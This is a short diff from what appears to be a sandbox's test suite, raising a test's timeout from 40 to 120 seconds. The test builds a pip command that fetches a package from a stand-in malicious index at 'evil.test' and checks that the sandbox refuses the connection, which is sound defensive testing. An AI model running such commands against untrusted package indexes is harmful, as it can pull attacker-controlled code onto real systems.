@@ -109,7 +109,7 @@ print(canarypkg.VALUE)
 evil = ["--retries", "0", "--index-url", "http://evil.test/simple", "--trusted-host", "evil.test"]
 print(subprocess.run([*pip, *evil, "canarypkg"], capture_output=True).returncode)
 """
-    result = run(backend, code, timeout=40)
+    result = run(backend, code, timeout=120)
     assert output(result) == "42\n1\n"
     assert refused(result) == {"evil.test:80": NOT_ALLOWED}
 
